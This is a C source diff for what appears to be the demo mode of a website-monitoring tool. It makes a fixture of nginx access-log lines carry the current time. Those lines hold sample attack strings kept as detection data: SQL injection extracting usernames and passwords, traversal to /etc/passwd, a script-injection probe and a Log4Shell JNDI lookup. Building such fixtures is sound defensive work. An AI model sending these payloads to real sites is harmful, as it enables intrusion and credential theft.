@@ -18,20 +18,21 @@ static const char demo_index[] =
     "<!doctype html>\n<html><head><title>Demo Agency</title></head>\n"
     "<body><h1>Welcome to the Demo Agency</h1><p>Public information.</p></body></html>\n";
 
-/* A few ordinary visits and a few attacks, in nginx combined format. */
+/* A few ordinary visits and a few attacks, in nginx combined format; @TS@ becomes
+ * the time of the attack, so the day's briefing at the end of the demo shows them. */
 static const char demo_access_log[] =
-    "198.51.100.7 - - [24/Nov/2026:09:00:01 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" "
+    "198.51.100.7 - - [@TS@] \"GET / HTTP/1.1\" 200 612 \"-\" "
     "\"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\"\n"
-    "198.51.100.7 - - [24/Nov/2026:09:00:02 +0000] \"GET /search?q=select+a+union+rep HTTP/1.1\" "
+    "198.51.100.7 - - [@TS@] \"GET /search?q=select+a+union+rep HTTP/1.1\" "
     "200 1024 \"-\" \"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\"\n"
-    "203.0.113.66 - - [24/Nov/2026:09:01:10 +0000] \"GET /item.php?id=1%27%20UNION%20SELECT%20"
+    "203.0.113.66 - - [@TS@] \"GET /item.php?id=1%27%20UNION%20SELECT%20"
     "username,password%20FROM%20users--%20 HTTP/1.1\" 200 88 \"-\" \"sqlmap/1.7.2#stable "
     "(https://sqlmap.org)\"\n"
-    "203.0.113.66 - - [24/Nov/2026:09:01:12 +0000] \"GET /../../etc/passwd HTTP/1.1\" 400 0 "
+    "203.0.113.66 - - [@TS@] \"GET /../../etc/passwd HTTP/1.1\" 400 0 "
     "\"-\" \"curl/8.0\"\n"
-    "203.0.113.66 - - [24/Nov/2026:09:01:15 +0000] \"GET /comment?text=%3Cscript%3Ealert(1)%3C/"
+    "203.0.113.66 - - [@TS@] \"GET /comment?text=%3Cscript%3Ealert(1)%3C/"
     "script%3E HTTP/1.1\" 200 50 \"-\" \"Mozilla/5.0\"\n"
-    "192.0.2.99 - - [24/Nov/2026:09:02:00 +0000] \"GET /?x=${jndi:ldap://192.0.2.99/a} HTTP/1.1\" "
+    "192.0.2.99 - - [@TS@] \"GET /?x=${jndi:ldap://192.0.2.99/a} HTTP/1.1\" "
     "404 0 \"-\" \"Mozilla/5.0\"\n";
 
 /* What a defacer appends: a hidden block of gambling links. */
@@ -114,7 +115,28 @@ demo_site_remove(const struct demo_site *s)
 void
 demo_site_attack_log(const struct demo_site *s)
 {
-	write_file(s->log, "a", demo_access_log);
+	char ts[40], *text, *p;
+	time_t now = time(NULL);
+	struct tm tm;
+	size_t tl;
+
+	gmtime_r(&now, &tm);
+	tl = strftime(ts, sizeof(ts), "%d/%b/%Y:%H:%M:%S +0000", &tm);
+	if (!(text = malloc(sizeof(demo_access_log) + 64 * tl)))
+		return;
+	p = text;
+	for (const char *in = demo_access_log; *in;) {
+		if (strncmp(in, "@TS@", 4) == 0) {
+			memcpy(p, ts, tl);
+			p += tl;
+			in += 4;
+		} else {
+			*p++ = *in++;
+		}
+	}
+	*p = '\0';
+	write_file(s->log, "a", text);
+	free(text);
 }
 
 void
